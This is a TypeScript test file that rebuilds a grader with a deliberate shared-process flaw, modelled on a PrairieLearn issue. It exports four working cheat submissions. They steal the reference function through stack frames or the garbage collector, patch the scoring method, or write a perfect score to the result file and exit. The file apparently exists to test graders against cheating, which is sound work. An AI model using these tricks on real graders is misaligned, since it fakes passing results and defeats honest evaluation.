import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { CheatingAnswer } from './cheating-answers.ts';

/**
 * A grader whose code and the learner's share one process, as PrairieLearn's (#5184; `pl_main.py`, `pl_execute.py` of its
 * Python grader): the name of the file for the result is read from a file that is deleted, the reference is run, then the
 * learner's code with names of its own, and values of both are compared. Written anew from that description, for a
 * function `square`; run outside the sandbox with answers of ours only.
 */
const grader = `
import json, os, sys

class Feedback:
    points = 0
    @classmethod
    def set_score(cls, score):
        cls.points = score

def execute_code(answer):
    ref_code = {}
    exec("def square(n): return n * n", ref_code)
    student_code = {}
    exec(answer, student_code)
    return ref_code, student_code

def grade(answer):
    reference, given = execute_code(answer)
    numbers = (3, -4, 0, 12345678901234567890)
    right = all(given["square"](n) == reference["square"](n) for n in numbers)
    Feedback.set_score(1 if right else 0)

if __name__ == "__main__":
    folder = sys.argv[1]
    with open(os.path.join(folder, "output-fname.txt")) as file:
        output_fname = file.read()
    os.remove(os.path.join(folder, "output-fname.txt"))
    with open(os.path.join(folder, "answer.py")) as file:
        answer = file.read()
    try:
        grade(answer)
        result = {"score": Feedback.points}
    except BaseException:
        result = {"score": 0}
    with open(output_fname, "w") as file:
        json.dump(result, file)
`;

/** What the grader with one process says about an answer: 0 or 1. */
export async function scoreInSharedProcess(code: string): Promise<unknown> {
  const folder = await mkdtemp(join(tmpdir(), 'lemma-shared-'));
  try {
    const outcome = join(folder, 'result-8d1c');
    await writeFile(join(folder, 'grader.py'), grader);
    await writeFile(join(folder, 'answer.py'), code);
    await writeFile(join(folder, 'output-fname.txt'), outcome);
    await promisify(execFile)('/usr/bin/python3', ['-I', join(folder, 'grader.py'), folder], { timeout: 20_000 });
    return JSON.parse(await readFile(outcome, 'utf8'));
  } finally {
    await rm(folder, { recursive: true });
  }
}

const trick = (title: string, ...lines: readonly string[]): CheatingAnswer => ({ title, code: lines.join('\n') });

/**
 * How a grader with one process is tricked. The proofs of #5184 were taken out of it; these are what its description says
 * (introspection of a shared process), against the places where the grader keeps what matters.
 */
export const sharedProcessTricks: readonly CheatingAnswer[] = [
  trick(
    'takes the reference from the variables of the function that runs it',
    'import sys',
    'frame = sys._getframe()',
    'while frame:',
    "    if 'ref_code' in frame.f_locals: square = frame.f_locals['ref_code']['square']",
    '    frame = frame.f_back',
  ),
  trick(
    'finds the reference among the objects of the process',
    'import gc',
    'for each in gc.get_objects():',
    "    if isinstance(each, dict) and each is not globals() and callable(each.get('square')): square = each['square']",
  ),
  trick(
    'replaces what counts the points',
    'import sys',
    "main = sys.modules['__main__']",
    "Feedback = getattr(main, 'Feedback', None)",
    'if Feedback: Feedback.set_score = classmethod(lambda cls, score: setattr(cls, "points", 1))',
    'def square(n): return n',
  ),
  trick(
    'writes the result into its file, and ends the process',
    'import json, os, sys',
    "name = getattr(sys.modules['__main__'], 'output_fname', None)",
    'if name is not None:',
    '    with open(name, "w") as file: json.dump({"score": 1}, file)',
    'os._exit(0)',
  ),
];
